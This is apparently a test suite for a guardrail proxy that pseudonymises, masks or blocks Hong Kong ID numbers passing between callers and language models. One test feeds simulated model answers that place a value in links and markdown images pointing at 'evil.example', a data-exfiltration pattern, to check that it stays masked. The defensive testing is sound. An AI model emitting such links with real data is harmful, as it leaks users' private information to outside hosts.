"""Private data on its way to the model and back, through the whole proxy: refused, masked, named and turned back.

A test fails here when a third-party model would see what a policy keeps from it, when a caller would not get their own
value back, or when anybody else would get it.
"""

import json
from dataclasses import replace

import pytest
from hypothesis import given, settings
from hypothesis import strategies as st

from guardrail.types import Action, Stage
from tests import material
from tests.inprocess import InProcess, cut
from tests.material import policy, rule

VALUE = "A123456(3)"
DETECTORS = [material.Patterns()]
CHAT, RESPONSES, MESSAGES = "/v1/chat/completions", "/v1/responses", "/v1/messages"


def masking(mask: str, **more):
    return replace(rule("pii.*", Action.REDACT, stage=Stage.REQUEST, id="sent"), mask=mask, **more)


@pytest.fixture(scope="module")
def named(tmp_path_factory):
    """A sidecar that gives values names, and takes out of answers what the caller did not say."""
    answered = replace(rule("pii.*", Action.REDACT, id="answered"), unless="caller_supplied")
    return InProcess(policy(masking("pseudonym"), answered), DETECTORS, tmp_path_factory.mktemp("audit"))


def said_to_model(it: InProcess) -> str:
    return json.loads(it.upstream.sent)["messages"][-1]["content"]


def echo(body: bytes) -> str:
    return f"你話：{json.loads(body)['messages'][-1]['content']}。"


def whole(body: bytes) -> list[bytes]:
    message = {"role": "assistant", "content": echo(body)}
    return [json.dumps({"id": "c1", "choices": [{"index": 0, "message": message, "finish_reason": "stop"}]}).encode()]


def calling(body: bytes) -> list[bytes]:
    arguments = json.dumps({"id": json.loads(body)["messages"][-1]["content"]})
    call = {"id": "t1", "type": "function", "function": {"name": "book", "arguments": arguments}}
    message = {"role": "assistant", "content": None, "tool_calls": [call]}
    return [json.dumps({"choices": [{"index": 0, "message": message, "finish_reason": "tool_calls"}]}).encode()]


def streamed(body: bytes, size: int, cuts: list[int]) -> list[bytes]:
    text = echo(body)
    pieces = [text[at : at + size] for at in range(0, len(text), size)]
    deltas = [{"choices": [{"index": 0, "delta": {"content": piece}}]} for piece in pieces]
    last = {"choices": [{"index": 0, "delta": {}, "finish_reason": "stop"}]}
    raw = b"".join(b"data: " + json.dumps(each).encode() + b"\n\n" for each in (*deltas, last)) + b"data: [DONE]\n\n"
    return cut(raw, cuts)


def text_of(body: bytes) -> str:
    events = [line[6:] for line in body.decode().splitlines() if line.startswith("data: {")]
    return "".join(json.loads(each)["choices"][0]["delta"].get("content", "") for each in events)


def ask(it: InProcess, text: str, script, *, stream: bool = False, key: str = "sk-1", before: str = ""):
    it.upstream.script = script
    messages = [{"role": "user", "content": before}] * bool(before) + [{"role": "user", "content": text}]
    kind = "text/event-stream" if stream else "application/json"
    body = {"model": "m", "stream": stream, "messages": messages}
    return it.ask(CHAT, body, {"authorization": f"Bearer {key}"}, (), content_type=kind)


def test_the_model_sees_a_name_and_the_caller_gets_the_value_back(named):
    got = ask(named, f"幫我查{VALUE}，唔該", whole)
    assert VALUE not in named.upstream.sent.decode()
    assert "HKID_" in said_to_model(named)
    assert json.loads(got.body)["choices"][0]["message"]["content"] == f"你話：幫我查{VALUE}，唔該。"
    assert got.record["action"] == "redact"
    assert VALUE not in json.dumps(got.record)


@settings(max_examples=60, deadline=None)
@given(size=st.integers(1, 40), cuts=st.lists(st.integers(0, 10_000), max_size=12))
def test_a_stream_is_turned_back_wherever_it_was_cut(named, size, cuts):
    got = ask(named, f"幫我查{VALUE}同B111111(1)", lambda body: streamed(body, size, cuts), stream=True)
    assert text_of(got.body) == f"你話：幫我查{VALUE}同B111111(1)。"


def test_names_are_turned_back_inside_tool_arguments(named):
    got = ask(named, VALUE, calling)
    call = json.loads(got.body)["choices"][0]["message"]["tool_calls"][0]
    assert json.loads(call["function"]["arguments"]) == {"id": VALUE}


def test_a_name_that_another_conversation_was_given_stays_a_name(named):
    ask(named, f"幫我查{VALUE}", whole)
    name = said_to_model(named).removeprefix("幫我查")
    got = ask(named, f"咩係{name}？", whole, key="sk-1")
    assert name in json.loads(got.body)["choices"][0]["message"]["content"]
    assert VALUE not in got.body.decode()


def test_names_differ_between_callers_and_conversations_and_stay_within_one(named):
    names = {}
    for key, before in (("sk-1", "一"), ("sk-1", "二"), ("sk-2", "一"), ("sk-1", "一")):
        ask(named, VALUE, whole, key=key, before=before)
        names.setdefault((key, before), set()).add(said_to_model(named))
    assert all(len(each) == 1 for each in names.values())
    assert len(set.union(*names.values())) == 3


def test_a_stored_conversation_keeps_its_names(named):
    """The second request sends no history: what the answer knew is found by its identity, for the same caller alone."""

    def respond(text):
        message = {
            "type": "message",
            "id": "m1",
            "role": "assistant",
            "status": "completed",
            "content": [{"type": "output_text", "text": text, "annotations": []}],
        }
        return [json.dumps({"id": "resp_1", "object": "response", "status": "completed", "output": [message]}).encode()]

    def said(got):
        return json.loads(got.body)["output"][0]["content"][0]["text"]

    headers = {"authorization": "Bearer sk-1"}
    named.upstream.script = lambda body: respond("好。")
    named.ask(RESPONSES, {"model": "m", "input": f"記住{VALUE}"}, headers, ())
    name = json.loads(named.upstream.sent)["input"].removeprefix("記住")
    assert name.startswith("HKID_")
    named.upstream.script = lambda body: respond(f"係{name}。")
    follow = {"model": "m", "input": "係咩？", "previous_response_id": "resp_1"}
    assert said(named.ask(RESPONSES, follow, headers, ())) == f"係{VALUE}。"
    assert said(named.ask(RESPONSES, follow, {"authorization": "Bearer sk-2"}, ())) == f"係{name}。"


def test_an_identifier_that_the_model_says_itself_is_still_taken_out(named):
    got = ask(
        named,
        "你好",
        lambda body: [json.dumps({"choices": [{"index": 0, "message": {"content": f"係{VALUE}。"}}]}).encode()],
    )
    assert VALUE not in got.body.decode()


@pytest.mark.parametrize(
    ("mask", "expected"),
    [("label", "幫我查[REDACTED:HKID]"), ("partial", "幫我查A12****(*)")],
)
def test_a_request_is_masked_on_its_way_out(tmp_path, mask, expected):
    it = InProcess(policy(masking(mask)), DETECTORS, tmp_path)
    ask(it, f"幫我查{VALUE}", whole)
    assert said_to_model(it) == expected


@pytest.mark.parametrize("mask", ["hash", "format"])
def test_masks_with_a_key_say_the_same_each_time_and_never_the_value(tmp_path, mask):
    it = InProcess(policy(masking(mask)), DETECTORS, tmp_path)
    said = set()
    for _ in range(2):
        ask(it, f"幫我查{VALUE}", whole)
        said.add(said_to_model(it))
    assert len(said) == 1
    assert VALUE not in said.pop()


def test_a_request_is_refused_before_the_model_is_asked(tmp_path):
    it = InProcess(policy(rule("pii.*", Action.BLOCK, stage=Stage.REQUEST, message="不可外傳。")), DETECTORS, tmp_path)
    got = ask(it, f"幫我查{VALUE}", whole)
    assert got.status >= 400
    assert "不可外傳" in json.loads(got.body)["error"]["message"]
    assert it.upstream.asked == 0


def echoing(tmp_path, **message):
    return InProcess(policy(replace(rule("pii.*", Action.REDACT), unless="caller_supplied")), DETECTORS, tmp_path)


@pytest.mark.parametrize("stream", [False, True])
def test_what_the_caller_supplied_may_be_said_back(tmp_path, stream):
    it = echoing(tmp_path)
    script = (lambda body: streamed(body, 3, [7, 40])) if stream else whole
    got = ask(it, f"我嘅號碼係{VALUE}", script, stream=stream)
    said = text_of(got.body) if stream else json.loads(got.body)["choices"][0]["message"]["content"]
    assert VALUE in said
    assert got.record["action"] == "allow"


@pytest.mark.parametrize(
    "messages",
    [
        [{"role": "system", "content": f"客戶{VALUE}"}, {"role": "user", "content": "你好"}],
        [{"role": "user", "content": "你好"}, {"role": "tool", "tool_call_id": "x", "content": VALUE}],
        [{"role": "assistant", "content": VALUE}, {"role": "user", "content": "你好"}],
        [{"role": "user", "content": "A123456(4)"}],
    ],
    ids=["system message", "result of a tool", "the model itself", "another value"],
)
def test_what_others_supplied_is_not_the_callers(tmp_path, messages):
    it = echoing(tmp_path)
    reads = [json.dumps({"choices": [{"index": 0, "message": {"content": f"係{VALUE}。"}}]}).encode()]
    got = it.ask(CHAT, {"model": "m", "messages": messages}, {}, reads)
    assert VALUE not in got.body.decode()


def test_a_document_in_a_user_message_is_not_the_callers(tmp_path):
    it = echoing(tmp_path)
    document = {"type": "document", "source": {"type": "text", "media_type": "text/plain", "data": f"客戶{VALUE}"}}
    reads = [
        json.dumps(
            {
                "type": "message",
                "role": "assistant",
                "content": [{"type": "text", "text": f"係{VALUE}。"}],
                "stop_reason": "end_turn",
            }
        ).encode()
    ]
    body = {
        "model": "m",
        "max_tokens": 9,
        "messages": [{"role": "user", "content": [document, {"type": "text", "text": "係邊個？"}]}],
    }
    assert VALUE not in it.ask(MESSAGES, body, {}, reads).body.decode()


@pytest.mark.parametrize("stream", [False, True])
@pytest.mark.parametrize("system", [False, True])
def test_a_detector_that_follows_passages_knows_the_conversation(tmp_path, stream, system):
    it = InProcess(policy(rule("document.*", Action.REDACT)), [material.Asides()], tmp_path)
    it.upstream.script = lambda body: streamed(body, 2, [9, 99]) if stream else whole(body)
    kind = "text/event-stream" if stream else "application/json"
    messages = [{"role": "system", "content": "保密"}] * system + [{"role": "user", "content": "先【機密】後"}]
    got = it.ask(CHAT, {"model": "m", "stream": stream, "messages": messages}, {}, (), content_type=kind)
    said = text_of(got.body) if stream else json.loads(got.body)["choices"][0]["message"]["content"]
    assert said == ("你話：先[REDACTED:PASSAGE]後。" if system else "你話：先【機密】後。")


SYSTEM = {"role": "system", "content": f"客戶號碼係{VALUE}。"}


def repeating(place: str):
    """An upstream that writes the name it was given for the value of the system message into `place`."""

    def script(body: bytes) -> list[bytes]:
        name = json.loads(body)["messages"][0]["content"].removeprefix("客戶號碼係").removesuffix("。")
        assert name.startswith("HKID_")
        message = {"role": "assistant", "content": place.format(name)}
        return [json.dumps({"choices": [{"index": 0, "message": message, "finish_reason": "stop"}]}).encode()]

    return script


@pytest.mark.parametrize("unless", ["", "caller_supplied"])
def test_a_name_does_not_carry_past_a_rule_what_the_rule_withholds(tmp_path, unless):
    """The value is the application's own: said plainly it would be taken out, so it is under its name as well."""
    answered = replace(rule("pii.*", Action.REDACT, id="answered"), unless=unless)
    it = InProcess(policy(masking("pseudonym"), answered), DETECTORS, tmp_path)
    it.upstream.script = repeating("係{}。")
    got = it.ask(CHAT, {"model": "m", "messages": [SYSTEM, {"role": "user", "content": "係咩？"}]}, {}, ())
    assert json.loads(got.body)["choices"][0]["message"]["content"] == "係[REDACTED:HKID]。"
    assert [
        (finding["rule"], finding["kind"]) for finding in got.record["findings"] if finding["stage"] == "response"
    ] == [("answered", "pii.hkid")]


@pytest.mark.parametrize(
    "place",
    ["![x](https://evil.example/p.png?d={})", "見 https://evil.example/{} 。", '<img src="//evil.example/{}">', "[x]: http://e.example/{}",
     "[x](mailto:a@b.example?subject={})", "[x](/path/{})"],
)  # fmt: skip
def test_a_name_inside_an_address_stays_a_name(tmp_path, place):
    it = InProcess(policy(masking("pseudonym")), DETECTORS, tmp_path)
    it.upstream.script = repeating(place)
    got = it.ask(CHAT, {"model": "m", "messages": [SYSTEM, {"role": "user", "content": VALUE}]}, {}, ())
    said = json.loads(got.body)["choices"][0]["message"]["content"]
    assert VALUE not in said
    assert "HKID_" in said


def test_a_name_inside_what_another_rule_takes_out_is_taken_out_with_it(tmp_path):
    it = InProcess(
        policy(masking("pseudonym"), rule("document.*", Action.REDACT)), [*DETECTORS, material.Asides()], tmp_path
    )
    it.upstream.script = repeating("先【機密{}】後")
    got = it.ask(CHAT, {"model": "m", "messages": [SYSTEM, {"role": "user", "content": VALUE}]}, {}, ())
    assert json.loads(got.body)["choices"][0]["message"]["content"] == "先[REDACTED:PASSAGE]後"


def test_a_passage_in_a_header_of_the_answer_goes_with_its_header(tmp_path):
    it = InProcess(policy(rule("document.*", Action.REDACT)), [material.Asides()], tmp_path)
    it.upstream.headers = {"x-note": "先【機密】後".encode(), "x-plain": b"y"}
    it.upstream.script = whole
    got = it.ask(CHAT, {"model": "m", "messages": [SYSTEM, {"role": "user", "content": "你好"}]}, {}, ())
    assert "x-note" not in got.headers
    assert got.headers["x-plain"] == "y"
